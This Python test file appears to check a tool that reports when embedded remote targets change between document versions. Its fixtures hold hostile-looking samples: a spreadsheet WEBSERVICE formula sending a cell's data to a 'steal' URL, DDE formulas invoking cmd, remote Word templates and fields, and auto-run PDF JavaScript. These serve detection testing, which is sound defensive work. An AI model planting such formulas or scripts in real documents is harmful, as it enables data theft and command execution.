"""Another target in place of one that was there is news, even at the same host."""

from __future__ import annotations

from pathlib import Path

import docx
import openpyxl
import pypdf
import pytest
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.unit.formats.notices.test_notices import TYPE, field, rels, told, with_part, word

GOOD = "http://good.example/a"
OTHER = "http://good.example/steal?d=salary"


def book(file: Path, formula: str) -> Path:
    made = openpyxl.Workbook()
    sheet = made.active
    assert sheet is not None
    sheet["A1"] = formula
    made.save(file)
    return file


@pytest.mark.parametrize(
    ("formula", "other", "code"),
    [
        (f'=WEBSERVICE("{GOOD}")', f'=WEBSERVICE("{OTHER}"&A2)', "remote_formula"),
        ("=cmd|'/c one'!A0", "=cmd|'/c two'!A0", "dde"),
        (f'=HYPERLINK("{GOOD}")', f'=HYPERLINK("{OTHER}")', "link"),
    ],
)
def test_a_formula_with_another_target_is_told(
    tmp_path: Path, formula: str, other: str, code: str
) -> None:
    old, new = book(tmp_path / "old.xlsx", formula), book(tmp_path / "new.xlsx", other)
    assert set(told(old, new)) == {code}
    assert "steal" not in told(old, new)[code]
    assert told(old, old) == {}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("note.md", "![x]({})"),
        ("page.html", "<img src='{}'>"),
        ("page.html", "<style>p {{ background: url({}) }}</style>"),
    ],
)
def test_a_text_with_another_target_is_told(tmp_path: Path, name: str, text: str) -> None:
    old, new = tmp_path / f"old-{name}", tmp_path / name
    old.write_text(text.format(GOOD))
    new.write_text(text.format(OTHER))
    assert "good.example" in "".join(told(old, new).values())
    assert told(old, old) == {}


def test_another_template_of_this_computer_is_told(tmp_path: Path) -> None:
    plain = tmp_path / "plain.docx"
    docx.Document().save(str(plain))

    def based(on: str) -> Path:
        entry = f'Type="{TYPE}attachedTemplate" Target="{on}" TargetMode="External"'
        name = "word/_rels/settings.xml.rels"
        return with_part(plain, tmp_path / f"{on[-6]}.docx", name, rels(entry))

    old, new = based("file:///C:/a.dotm"), based("file:///C:/b.dotm")
    assert set(told(old, new)) == {"attached_template"}
    assert told(old, old) == {}


def test_a_field_with_another_target_is_told(tmp_path: Path) -> None:
    plain = tmp_path / "plain.docx"
    docx.Document().save(str(plain))
    old = word(plain, field(f'INCLUDEPICTURE "{GOOD}"')).rename(tmp_path / "old.docx")
    new = word(plain, field(f'INCLUDEPICTURE "{OTHER}"'))
    assert set(told(old, new)) == {"remote_image"}


def test_another_script_of_a_pdf_is_told(tmp_path: Path) -> None:
    def scripted(name: str, script: str) -> Path:
        writer = pypdf.PdfWriter()
        writer.add_blank_page(100, 100)
        said = writer._add_object(TextStringObject(script))
        kind = writer._add_object(NameObject("/JavaScript"))
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): kind, NameObject("/JS"): said}
        )
        writer.write(tmp_path / name)
        return tmp_path / name

    old, new = scripted("old.pdf", "one()"), scripted("new.pdf", "two()")
    assert set(told(old, new)) == {"script"}
    assert told(old, old) == {}
